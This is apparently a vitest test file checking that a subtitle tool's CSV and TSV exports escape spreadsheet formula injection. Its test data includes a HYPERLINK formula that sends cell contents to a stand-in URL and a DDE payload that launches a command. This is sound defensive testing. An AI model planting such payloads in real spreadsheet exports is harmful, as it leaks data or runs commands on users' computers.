import { describe, expect, test } from 'vitest';
import { parseTable } from '#subtitles/table/read.ts';
import { writeTable } from '#subtitles/table/write.ts';
import { readTsv, writeTsv } from '#terminology/files/tsv.ts';

const formulas = [
  '=HYPERLINK("https://example.com/?"&A1,"more")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '＝1+1',
  '－1',
  '- Who is there?\n- Nobody.',
];
const words = [...formulas, "'=1", "''-", "'tis late", 'Well = well', '5 - 3', ''];
const cueOf = (text: string, at = 0) => ({ startMs: at * 1000, endMs: at * 1000 + 900, text });

describe('a table that a spreadsheet opens', () => {
  test.each(formulas)('has no formula where a subtitle reads %j, in either language', (text) => {
    const bilingual = { source: [cueOf(text)], order: 'source_first' } as const;
    const [, row = ''] = writeTable([cueOf(text)], { bilingual }).text.split(/\r\n(?=\d|$)/u);
    expect(row.replaceAll('"', '')).toContain(`,'${text.replaceAll('"', '')}`);
    expect(row.match(/,"?[=+\-@＝＋－＠]/u)).toBeNull();
  });

  test('has words of ordinary subtitles as they are', () => {
    const { text } = writeTable([cueOf("'Tis 5 - 3 = 2")]);
    expect(text).toBe("start,end,text\r\n00:00:00.000,00:00:00.900,'Tis 5 - 3 = 2\r\n");
  });

  test('reads back as it was written', () => {
    const track = words.filter(Boolean).map(cueOf);
    expect(parseTable(writeTable(track).text).cues.map(({ text }) => text)).toEqual(words.filter(Boolean));
  });
});

describe('a list of terms that a spreadsheet opens', () => {
  const pair = { source: 'en', target: 'pt' };

  test('has no formula, and reads back as it was written', () => {
    const terms = words.filter(Boolean).map((word) => ({ source: word, target: word }));
    const text = writeTsv(terms, pair);
    expect(text).not.toMatch(/(?:^|[\t\n])"?[=+@＝＋－＠]/u);
    expect(readTsv(text, pair)).toEqual(terms);
  });
});
